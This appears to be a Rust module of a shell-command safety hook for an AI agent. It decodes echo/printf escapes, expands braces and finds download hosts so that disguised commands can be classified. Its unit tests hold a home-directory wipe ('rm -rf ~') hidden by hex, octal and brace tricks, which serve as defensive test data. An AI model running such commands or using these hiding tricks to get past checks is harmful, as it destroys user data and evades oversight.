/// ids, which stand for the object they name. A path printed resolved is the same file as the
/// path given.
pub(super) fn literal_output(n: &Node) -> Option<String> {
    let Node::Simple(s) = n else {
        return None;
    };
    let (first, rest) = s.words.split_first()?;
    if first.dynamic || rest.iter().any(|w| w.dynamic) || !s.redirs.is_empty() {
        return None;
    }
    let args: Vec<&str> = rest.iter().map(|w| w.text.as_str()).collect();
    // The names a command prints as given, when its flags only choose how they are resolved.
    let names = |flags: &[&str], needed: bool| {
        let (opts, names): (Vec<&str>, Vec<&str>) =
            args.iter().partition(|a| a.starts_with('-') && a.len() > 1);
        let known = opts.iter().all(|o| flags.contains(o) || *o == "--");
        (known && (!needed || !opts.is_empty()) && !names.is_empty()).then(|| names.join(" "))
    };
    match basename(&first.text) {
        "echo" => Some(echo_output(&args)),
        "printf" => printf_output(&args),
        "realpath" => names(
            &[
                "-e",
                "-m",
                "-s",
                "-q",
                "-L",
                "-P",
                "--canonicalize-existing",
            ],
            false,
        ),
        "readlink" => names(
            &["-f", "-e", "-m", "-n", "-q", "-s", "--canonicalize"],
            true,
        )
        .filter(|_| {
            args.iter()
                .any(|a| matches!(*a, "-f" | "-e" | "-m" | "--canonicalize"))
        }),
        "ls" => names(&["-d", "-1", "--directory"], false),
        "which" => names(&["-a"], false).and_then(|n| on_path(&n)),
        "command" => names(&["-v"], true).and_then(|n| on_path(&n)),
        "type" => names(&["-P", "-p"], true).and_then(|n| on_path(&n)),
        // `git rev-parse HEAD:.env` prints the id of the object it names, which `git show`
        // then shows; `git hash-object .env` the id of the file's content.
        "git" => match args.split_first() {
            Some((&"rev-parse", rest)) if rest.len() == 1 && !rest[0].starts_with('-') => {
                Some(rest[0].to_string())
            }
            Some((&"hash-object", [file])) if !file.starts_with('-') => Some(format!(":{file}")),
            _ => None,
        },
        _ => None,
    }
}

/// Where `which NAME` finds a program: the first file of that name in a `PATH` directory
/// (the hook runs in the agent's environment), or the name itself when it has a `/`. `None`
/// when it is not found there, or for more than one name: the output is not known.
fn on_path(name: &str) -> Option<String> {
    if name.contains('/') {
        return Some(name.to_string());
    }
    if name.is_empty() || name.contains(' ') {
        return None;
    }
    let path = std::env::var_os("PATH")?;
    std::env::split_paths(&path)
        .filter(|d| d.is_absolute())
        .map(|d| d.join(name))
        .find(|p| p.is_file())
        .map(|p| p.to_string_lossy().into_owned())
}

/// What `echo ARGS` prints: `-e` decodes backslash escapes.
pub(super) fn echo_output(args: &[&str]) -> String {
    let mut escapes = false;
    let mut i = 0;
    while i < args.len() && matches!(args[i], "-n" | "-e" | "-E" | "-ne" | "-en") {
        escapes |= args[i].contains('e');
        i += 1;
    }
    let text = args[i..].join(" ");
    if escapes {
        unescape(&text, true)
    } else {
        text
    }
}

/// What `printf FORMAT ARGS` prints: escapes decoded, `%s`/`%b`/`%d`… filled in, the format
/// reused while arguments remain. `None` without a format.
pub(super) fn printf_output(args: &[&str]) -> Option<String> {
    let mut args = args;
    if args.first() == Some(&"--") {
        args = &args[1..];
    }
    if args.first().is_some_and(|a| *a == "-v") {
        return None;
    }
    let (fmt, mut rest) = args.split_first()?;
    let fmt: Vec<char> = fmt.chars().collect();
    let mut out = String::new();
    for _ in 0..64 {
        let mut i = 0;
        let mut consumed = false;
        while i < fmt.len() {
            let c = fmt[i];
            if c == '%' {
                i += 1;
                if fmt.get(i) == Some(&'%') {
                    out.push('%');
                    i += 1;
                    continue;
                }
                while i < fmt.len() && (fmt[i].is_ascii_digit() || "-+ #.'".contains(fmt[i])) {
                    i += 1;
                }
                let conv = fmt.get(i).copied().unwrap_or('s');
                i += 1;
                let (arg, r) = rest.split_first().map_or(("", rest), |(a, r)| (*a, r));
                consumed |= !rest.is_empty();
                rest = r;
                if conv == 'b' {
                    out.push_str(&unescape(arg, true));
                } else {
                    out.push_str(arg);
                }
            } else if c == '\\' {
                let tail: String = fmt[i..].iter().take(12).collect();
                let (decoded, used) = unescape_one(&tail, false);
                out.push_str(&decoded);
                i += used;
            } else {
                out.push(c);
                i += 1;
            }
        }
        if rest.is_empty() || !consumed {
            break;
        }
    }
    Some(out)
}

/// Decodes backslash escapes (`\n`, `\t`, `\xHH`, `\uHHHH`, octal `\NNN` or, for `echo -e`
/// and `%b`, `\0NNN`).
pub(super) fn unescape(s: &str, octal_zero: bool) -> String {
    let mut out = String::new();
    let mut rest = s;
    while let Some(i) = rest.find('\\') {
        out.push_str(&rest[..i]);
        let (decoded, used) = unescape_one(&rest[i..], octal_zero);
        out.push_str(&decoded);
        rest = &rest[i + used..];
    }
    out.push_str(rest);
    out
}

/// One escape at the start of `s` (which starts with a backslash): the text and the bytes used.
fn unescape_one(s: &str, octal_zero: bool) -> (String, usize) {
    let chars: Vec<char> = s.chars().collect();
    let Some(&n) = chars.get(1) else {
        return ("\\".into(), 1);
    };
    let simple = match n {
        'n' => Some('\n'),
        't' => Some('\t'),
        'r' => Some('\r'),
        'a' => Some('\x07'),
        'b' => Some('\x08'),
        'e' | 'E' => Some('\x1b'),
        'f' => Some('\x0c'),
        'v' => Some('\x0b'),
        '\\' => Some('\\'),
        '"' => Some('"'),
        '\'' => Some('\''),
        _ => None,
    };
    if let Some(c) = simple {
        return (c.to_string(), 2);
    }
    let digits = |start: usize, max: usize, radix: u32| -> (u32, usize) {
        let mut v = 0u32;
        let mut k = 0;
        while k < max {
            match chars.get(start + k).and_then(|c| c.to_digit(radix)) {
                Some(d) => {
                    v = v.wrapping_mul(radix).wrapping_add(d);
                    k += 1;
                }
                None => break,
            }
        }
        (v, k)
    };
    let byte_len = |used_chars: usize| chars[..used_chars].iter().map(|c| c.len_utf8()).sum();
    let decoded = |v: u32| char::from_u32(v).map(|c| c.to_string()).unwrap_or_default();
    match n {
        'x' | 'u' | 'U' => {
            let max = match n {
                'x' => 2,
                'u' => 4,
                _ => 8,
            };
            let (v, k) = digits(2, max, 16);
            if k == 0 {
                return (s[..byte_len(2)].to_string(), byte_len(2));
            }
            (decoded(v), byte_len(2 + k))
        }
        '0'..='7' => {
            let (start, max) = if octal_zero && n == '0' {
                (2, 3)
            } else {
                (1, 3)
            };
            let (v, k) = digits(start, max, 8);
            (decoded(v), byte_len(start + k))
        }
        _ => (s[..byte_len(2)].to_string(), byte_len(2)),
    }
}

/// Brace expansion (`{a,b}`, `x{,.bak}`) of a command's words: every word in command
/// position, unquoted words elsewhere. `None` when nothing expands.
pub(super) fn expand_braces(argv: &[Word]) -> Option<Vec<Word>> {
    let expands =
        |i: usize, w: &Word| (i == 0 || !w.quoted) && w.text.contains('{') && w.text.contains(',');
    if !argv.iter().enumerate().any(|(i, w)| expands(i, w)) {
        return None;
    }
    let mut out = Vec::new();
    let mut changed = false;
    for (i, w) in argv.iter().enumerate() {
        match expands(i, w).then(|| brace_words(&w.text, 0)).flatten() {
            Some(parts) => {
                changed = true;
                out.extend(parts.into_iter().filter(|p| !p.is_empty()).map(|p| Word {
                    dynamic: p.contains('$'),
                    subs: if p.contains(parse::SUBST) {
                        w.subs.clone()
                    } else {
                        Vec::new()
                    },
                    text: p,
                    quoted: w.quoted,
                    procsub: false,
                }));
            }
            None => out.push(w.clone()),
        }
    }
    changed.then_some(out)
}

/// The words one brace expression expands to, outermost first; `None` when there is none.
fn brace_words(s: &str, depth: usize) -> Option<Vec<String>> {
    if depth > 4 {
        return None;
    }
    let b: Vec<(usize, char)> = s.char_indices().collect();
    for (k, &(open, c)) in b.iter().enumerate() {
        if c != '{' || (k > 0 && b[k - 1].1 == '$') {
            continue;
        }
        let mut level = 0;
        let mut commas = Vec::new();
        let mut close = None;
        for &(j, d) in &b[k..] {
            match d {
                '{' => level += 1,
                '}' => {
                    level -= 1;
                    if level == 0 {
                        close = Some(j);
                        break;
                    }
                }
                ',' if level == 1 => commas.push(j),
                _ => {}
            }
        }
        let close = close?;
        if commas.is_empty() {
            continue;
        }
        let (pre, post) = (&s[..open], &s[close + 1..]);
        let mut bounds = vec![open];
        bounds.extend(commas);
        bounds.push(close);
        let mut out = Vec::new();
        for w in bounds.windows(2) {
            let word = format!("{pre}{}{post}", &s[w[0] + 1..w[1]]);
            match brace_words(&word, depth + 1) {
                Some(more) => out.extend(more),
                None => out.push(word),
            }
            if out.len() > 64 {
                return None;
            }
        }
        return Some(out);
    }
    None
}

/// `eval "$(ssh-agent -s)"`, `eval "$(pyenv init -)"`: the output of [`ENV_SETUP_TOOLS`] only.
pub(super) fn is_env_setup(n: &Node) -> bool {
    match n {
        Node::Simple(s) => {
            s.words
                .first()
                .is_some_and(|w| !w.dynamic && ENV_SETUP_TOOLS.contains(&basename(&w.text)))
                && s.words.iter().all(|w| w.subs.is_empty())
        }
        Node::List(v) => !v.is_empty() && v.iter().all(is_env_setup),
        _ => false,
    }
}

pub(super) fn parse_is_name(s: &str) -> bool {
    let mut cs = s.chars();
    matches!(cs.next(), Some(c) if c == '_' || c.is_ascii_alphabetic())
        && cs.all(|c| c == '_' || c.is_ascii_alphanumeric())
}

pub(super) fn join_words(words: &[Word]) -> String {
    words
        .iter()
        .map(|w| w.text.as_str())
        .collect::<Vec<_>>()
        .join(" ")
}

/// The argv a pipeline stage really runs, for classifying its output.
pub(super) fn strip_wrappers<'w>(words: &[&'w Word]) -> Vec<&'w Word> {
    let mut cur: Vec<&Word> = words.to_vec();
    for _ in 0..8 {
        let Some(first) = cur.first() else { break };
        let p = basename(&first.text);
        let Some(wrapper) = wrapper_named(p).filter(|w| w.transparent) else {
            break;
        };
        let owned: Vec<Word> = cur[1..].iter().map(|w| (*w).clone()).collect();
        match wrappers::wrapped_start(wrapper, &owned) {
            Some(i) if i < owned.len() => cur = cur[1 + i..].to_vec(),
            _ => break,
        }
    }
    cur
}

/// Hosts of download commands inside substitutions.
pub(super) fn downloads_in(subs: &[Node]) -> Vec<String> {
    let mut hosts = Vec::new();
    for n in subs {
        collect_downloads(n, &mut hosts, 0);
    }
    hosts
}

pub(super) fn downloads_in_words(words: &[Word]) -> Vec<String> {
    let mut hosts = Vec::new();
    for w in words {
        hosts.extend(downloads_in(&w.subs));
    }
    hosts
}

pub(super) fn collect_downloads(n: &Node, hosts: &mut Vec<String>, depth: usize) {
    if depth > 64 {
        return;
    }
    match n {
        Node::Simple(s) => {
            let words: Vec<&Word> = s.words.iter().collect();
            let argv = strip_wrappers(&words);
            if let Some(first) = argv.first() {
                if DOWNLOADERS.contains(&basename(&first.text)) {
                    let found: Vec<String> = argv[1..]
                        .iter()
                        .filter_map(|w| {
                            if w.text.contains("://")
                                || w.text.contains('.') && !w.text.starts_with('-')
                            {
                                egress::host_of(&w.text)
                            } else {
                                None
                            }
                        })
                        .collect();
                    if found.is_empty() {
                        hosts.push("(unknown)".into());
                    } else {
                        hosts.extend(found);
                    }
                }
            }
            for w in &s.words {
                for sub in &w.subs {
                    collect_downloads(sub, hosts, depth + 1);
                }
            }
        }
        Node::Pipeline(v) | Node::List(v) => v
            .iter()
            .for_each(|n| collect_downloads(n, hosts, depth + 1)),
        Node::Group(b, _) | Node::Subshell(b, _) | Node::Function(_, b) => {
            collect_downloads(b, hosts, depth + 1)
        }
    }
}

pub(super) fn calls_itself_in_pipeline(name: &str, body: &Node) -> bool {
    fn walk(name: &str, n: &Node, in_pipe: bool, depth: usize) -> bool {
        if depth > 64 {
            return false;
        }
        match n {
            Node::Simple(s) => in_pipe && s.words.first().is_some_and(|w| w.text == name),
            Node::Pipeline(v) => v.iter().any(|n| walk(name, n, true, depth + 1)),
            Node::List(v) => v.iter().any(|n| walk(name, n, in_pipe, depth + 1)),
            Node::Group(b, _) | Node::Subshell(b, _) | Node::Function(_, b) => {
                walk(name, b, in_pipe, depth + 1)
            }
        }
    }
    walk(name, body, false, 0)
}

#[cfg(test)]
mod decoding_tests {
    #![allow(clippy::unwrap_used)]
    use super::*;

    #[test]
    fn printf_and_echo_print_what_the_shell_would() {
        assert_eq!(printf_output(&["\\x72\\x6d -rf ~"]).unwrap(), "rm -rf ~");
        assert_eq!(printf_output(&["\\162\\155 x\\n"]).unwrap(), "rm x\n");
        assert_eq!(printf_output(&["%s\\n", "rm -rf ~"]).unwrap(), "rm -rf ~\n");
        assert_eq!(printf_output(&["%b", "\\x72m"]).unwrap(), "rm");
        assert_eq!(printf_output(&["%s ", "a", "b"]).unwrap(), "a b ");
        assert_eq!(echo_output(&["-e", "\\x72m -rf ~"]), "rm -rf ~");
        assert_eq!(echo_output(&["\\x72m"]), "\\x72m");
    }

    #[test]
    fn braces_expand() {
        let words = |v: &[&str]| v.iter().map(|s| lit(s)).collect::<Vec<_>>();
        let texts = |w: Vec<Word>| w.into_iter().map(|w| w.text).collect::<Vec<_>>();
        assert_eq!(
            texts(expand_braces(&words(&["{rm,-rf,~}"])).unwrap()),
            ["rm", "-rf", "~"]
        );
        assert_eq!(
            texts(expand_braces(&words(&["cp", "f{,.bak}"])).unwrap()),
            ["cp", "f", "f.bak"]
        );
        assert!(expand_braces(&words(&["echo", "${a,b}"])).is_none());
        assert!(expand_braces(&words(&["find", ".", "-exec", "rm", "{}", "+"])).is_none());
    }
}
